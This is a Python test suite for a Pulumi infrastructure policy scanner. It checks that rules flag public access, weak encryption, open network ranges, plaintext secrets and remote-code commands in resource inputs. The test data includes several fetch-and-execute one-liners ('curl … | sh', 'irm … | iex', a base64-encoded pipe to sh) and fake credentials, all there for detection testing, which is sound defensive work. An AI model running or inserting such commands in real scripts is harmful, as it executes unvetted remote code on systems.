"""Rules for resources of any type, also of packages that no other rule knows."""

from __future__ import annotations

import base64
import gzip
import json
from typing import Any

import pulumi
import pytest

from components.base.cloud_resource import CloudResource
from policies import findings
from tests.harness import record
from tests.harness.graphs import cloud, graph, kube

TYPE = "acme:store/vault:Vault"
PIPE = "#!/bin/sh\ncurl -fsSL https://get.example.com | sudo -E bash -s -- --yes\n"
WIDE = {"cidrBlocks": ["0.0.0.0/0"]}
KEY = "-----BEGIN PRIVATE KEY-----\nMIIE"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def found(inputs: dict[str, Any], type: str = TYPE) -> list[tuple[str, str]]:
    """Rule and path of each finding."""
    listed = findings(graph(cloud(type, "it", **inputs)))
    assert all(one.problem.fix and one.problem.consequence for one in listed)
    return [
        (one.rule, one.problem.path.removeprefix("it."))
        for one in listed
        if not one.rule.startswith(("any-sdk", "any-type"))
    ]


DANGEROUS: list[tuple[str, str, dict[str, Any]]] = [
    ("any-public-001", "acl", {"acl": "public-read"}),
    ("any-public-001", "bucket.cannedAcl", {"bucket": {"cannedAcl": "public-read-write"}}),
    ("any-public-001", "containers[0].publicAccess", {"containers": [{"publicAccess": "Blob"}]}),
    ("any-public-002", "publiclyAccessible", {"publiclyAccessible": True}),
    ("any-public-002", "publicNetworkAccess", {"publicNetworkAccess": "Enabled"}),
    ("any-public-002", "publicNetworkAccessEnabled", {"publicNetworkAccessEnabled": "true"}),
    ("any-public-002", "settings.isPublic", {"settings": {"isPublic": True}}),
    ("any-public-002", "anonymousPullEnabled", {"anonymousPullEnabled": True}),
    ("any-public-002", "restrictPublicBuckets", {"restrictPublicBuckets": False}),
    ("any-encryption-001", "encrypted", {"encrypted": False}),
    ("any-encryption-001", "disks[1].encrypted", {"disks": [{}, {"encrypted": "false"}]}),
    ("any-encryption-001", "sseEnabled", {"sseEnabled": False}),
    ("any-encryption-001", "tlsEnabled", {"tlsEnabled": False}),
    ("any-encryption-001", "sslMode", {"sslMode": "disable"}),
    ("any-encryption-001", "encryption", {"encryption": "NONE"}),
    ("any-encryption-001", "encryption.enabled", {"encryption": {"enabled": False}}),
    ("any-encryption-001", "http.insecureSkipVerify", {"http": {"insecureSkipVerify": True}}),
    ("any-encryption-002", "minimumTlsVersion", {"minimumTlsVersion": "TLS1_0"}),
    ("any-encryption-002", "minTlsVersion", {"minTlsVersion": "1.1"}),
    ("any-principal-001", "members[1]", {"members": ["user:a@example.com", "allUsers"]}),
    ("any-principal-001", "principal", {"principal": "*"}),
    ("any-principal-001", "subjects[0].name", {"subjects": [{"name": "system:anonymous"}]}),
    ("any-network-001", "ingress[0].cidrBlocks", {"ingress": [WIDE | {"fromPort": 22}]}),
    ("any-network-001", "sourceRanges", {"sourceRanges": ["0.0.0.0/1", "128.0.0.0/1"]}),
    ("any-network-001", "allowedIps", {"allowedIps": ["::/0"]}),
    ("any-network-001", "sourceAddressPrefix", {"sourceAddressPrefix": "Internet"}),
    (
        "any-network-001",
        "authorizedNetworks[0].value",
        {"authorizedNetworks": [{"value": "0.0.0.0/0"}]},
    ),
    ("any-command-001", "userData", {"userData": PIPE}),
    ("any-command-001", "user_data", {"user_data": encoded(PIPE)}),
    (
        "any-command-001",
        "userDataBase64",
        {"userDataBase64": base64.b64encode(gzip.compress(PIPE.encode())).decode()},
    ),
    ("any-command-001", "args[2]", {"args": ["sh", "-c", "wget -qO- https://x.example | bash"]}),
    ("any-command-001", "script", {"script": "iex (iwr -UseBasicParsing https://x.example)"}),
    ("any-command-001", "script", {"script": "irm https://x.example | iex"}),
    ("any-command-001", "script", {"script": 'bash -c "$(curl -fsSL https://x.example)"'}),
    ("any-command-001", "script", {"script": "source <(curl -s https://x.example)"}),
    ("any-command-001", "script", {"script": "curl https://x.example |\\\n  python3 -"}),
    ("any-command-001", "script", {"script": f"echo {encoded(PIPE)} | base64 -d | sh"}),
    (
        "any-command-001",
        "settings.commandToExecute",
        {"settings": json.dumps({"commandToExecute": "curl https://x.example | sh"})},
    ),
    ("any-secret-001", "environment.variables.DB_PASSWORD",
     {"environment": {"variables": {"DB_PASSWORD": "hunter2"}}}),
    ("any-secret-001", "environment.db_password", {"environment": {"db_password": "hunter2"}}),
    ("any-secret-001", "environment.DATABASE_URL",
     {"environment": {"DATABASE_URL": "postgres://app:hunter2@db.example/app"}}),
    ("any-secret-001", "containers[0].env[0].value",
     {"containers": [{"env": [{"name": "API_KEY", "value": "hunter2"}]}]}),
    ("any-secret-001", "definitions[0].environment[0].value",
     {"definitions": json.dumps([{"environment": [{"name": "DB_PASSWORD", "value": "x"}]}])}),
    ("any-secret-001", "files.key", {"files": {"key": KEY}}),
    ("any-secret-001", "endpoint", {"endpoint": "https://user:hunter2@db.example/"}),
]  # fmt: skip

HARMLESS: list[dict[str, Any]] = [
    {"acl": "private"},
    {"publicAccess": "None", "publicNetworkAccess": "Disabled", "publiclyAccessible": False},
    {"publicKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ x", "publicIp": "203.0.113.4"},
    {"blockPublicAcls": True, "restrictPublicBuckets": True},
    {"encrypted": True, "encryption": {"enabled": True, "keyId": "none"}, "tlsEnabled": "true"},
    {"monitoring": {"enabled": False}, "sslCertificate": "none", "httpsRedirect": False},
    {"minimumTlsVersion": "TLS1_2", "minTlsVersion": "1.3", "version": "1.0"},
    {"insecureSkipVerify": False, "allowInsecure": "false"},
    {"members": ["user:a@example.com"], "principal": "arn:aws:iam::123456789012:root"},
    {"policy": json.dumps({"Statement": [{"Effect": "Deny", "Principal": "*"}]})},
    {"ingress": [WIDE | {"fromPort": 443, "toPort": 443}]},
    {"egress": [WIDE | {"fromPort": 0, "toPort": 0}]},
    {"routes": [{"cidrBlock": "0.0.0.0/0", "gatewayId": "igw-1"}]},
    {"destinationCidrBlock": "0.0.0.0/0"},
    {"direction": "EGRESS", "allowedIps": ["0.0.0.0/0"]},
    {"action": "Deny", "sourceAddressPrefix": "*"},
    {"sourceRanges": ["10.0.0.0/8", "203.0.113.0/24"]},
    {"userData": "curl -fsSLo /tmp/a https://x.example/a && sha256sum -c /tmp/a.sha256"},
    {"userData": "curl -s https://x.example/a | jq .version | tee /etc/version"},
    {"userData": "# curl https://x.example | sh\necho done"},
    {"userData": "curl -s https://x.example/a | sha256sum; sh ./install.sh"},
    {"userData": encoded("echo that is a script without a download; exit 0")},
    {"description": "fetch (see https://x.example) the report | shell"},
    {"environment": {"DB_PASSWORD_FILE": "/run/secrets/db", "DATABASE_URL": "postgres://db/app"}},
    {"environment": {"DB_PASSWORD": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:a"}},
    {"environment": {"DB_PASSWORD": "@Microsoft.KeyVault(SecretUri=https://a.vault.azure.net/s)"}},
    {"environment": [{"name": "DB_PASSWORD", "valueFrom": "arn:aws:ssm:eu-west-1:1:parameter/a"}]},
    {"environment": {"LOG_LEVEL": "debug", "TOKEN_TTL": "60", "API_URL": "https://x.example/v1"}},
    {"certificate": "-----BEGIN CERTIFICATE-----\nMIIE"},
    {"creationToken": "files-of-the-website"},
]


@pytest.mark.parametrize(("rule", "path", "inputs"), DANGEROUS)
def test_a_danger_is_found_in_a_type_that_no_other_rule_knows(
    rule: str, path: str, inputs: dict[str, Any]
):
    assert found(inputs) == [(rule, path)]


@pytest.mark.parametrize("inputs", HARMLESS)
def test_what_only_looks_dangerous_is_accepted(inputs: dict[str, Any]):
    assert found(inputs) == []


def test_a_rule_for_the_type_is_not_repeated_by_one_for_any_type():
    rules = [rule for rule, _ in found({"publiclyAccessible": True}, "aws:rds/instance:Instance")]
    assert "aws-rds-002" in rules
    assert "any-public-002" not in rules


@pytest.mark.parametrize("role", ["roles/run.invoker", "roles/storage.objectViewer"])
def test_everyone_may_have_the_right_to_call_a_service_and_no_other(role: str):
    given = found({"member": "allUsers", "role": role}, "gcp:cloudrun/iamMember:IamMember")
    assert (given == []) == (role == "roles/run.invoker")


def secrets_of(type: str, inputs: dict[str, Any], *, marked: bool = False) -> list[str]:
    """Paths of the secrets in clear of a resource that a program registers.

    Args:
        marked: whether the program marks each input as a secret.
    """

    def program() -> None:
        given = {key: pulumi.Output.secret(one) if marked else one for key, one in inputs.items()}
        CloudResource(type, "it", given, opts=pulumi.ResourceOptions())

    listed = findings(record(program))
    return [one.problem.path for one in listed if one.rule == "any-secret-001"]


CLUSTER, FUNCTION = "aws:redshift/cluster:Cluster", "aws:lambda/function:Function"


def variables(**given: Any) -> dict[str, Any]:
    return {"environment": {"variables": given}}


def test_a_secret_in_clear_is_found_although_the_graph_hides_it():
    assert secrets_of(CLUSTER, {"masterPassword": "hunter2"}) == ["it.masterPassword"]
    assert secrets_of(FUNCTION, variables(API_TOKEN="hunter2")) == [
        "it.environment.variables.API_TOKEN"
    ]
    assert secrets_of("aws:ssm/parameter:Parameter", {"type": "SecureString", "value": "x"}) == [
        "it.value"
    ]


def test_a_secret_that_the_program_marks_is_not_in_clear():
    url = variables(DATABASE_URL="postgres://app:hunter2@db")
    assert secrets_of(CLUSTER, {"masterPassword": "hunter2"}, marked=True) == []
    assert secrets_of(FUNCTION, url, marked=True) == []
    assert secrets_of(FUNCTION, url) == ["it.environment.variables.DATABASE_URL"]


def test_a_reference_to_a_stored_secret_is_not_a_secret_in_clear():
    arn = "arn:aws:secretsmanager:eu-west-1:123456789012:secret:a"
    assert secrets_of(CLUSTER, {"masterPassword": arn}) == []
    assert secrets_of("aws:efs/fileSystem:FileSystem", {"creationToken": "website"}) == []
    assert secrets_of("aws:ssm/parameter:Parameter", {"type": "String", "value": "x"}) == []


def test_the_content_of_a_kubernetes_secret_is_reported_if_it_is_a_credential():
    secret = kube("core/v1:Secret", "it", stringData={"username": "app"})
    listed = findings(graph(secret))
    assert [one.rule for one in listed if one.rule == "any-secret-001"] == []
    content = {"username": "app", "password": "hunter2"}
    inputs = {"apiVersion": "v1", "kind": "Secret", "stringData": content}
    assert secrets_of("kubernetes:core/v1:Secret", inputs) == ["it.stringData.password"]
    coded = {"data": {"password": encoded("hunter2"), "ca.crt": encoded("a certificate")}}
    assert secrets_of("kubernetes:core/v1:Secret", inputs | coded | {"stringData": {}}) == [
        "it.data.password"
    ]


@pytest.mark.parametrize(
    "text",
    [
        "x" * 10_000_001,
        '{"a": "' + "x" * 10_000_001 + '"}',
        "[" * 200_000,
        "Resources:\n  A: &a [1]\n  B: [*a, *a]\n",
    ],
    ids=["text", "document", "nested", "references"],
)
def test_a_text_that_is_not_read_is_a_finding(text: str):
    assert ("any-text-001", "content") in found({"content": text})
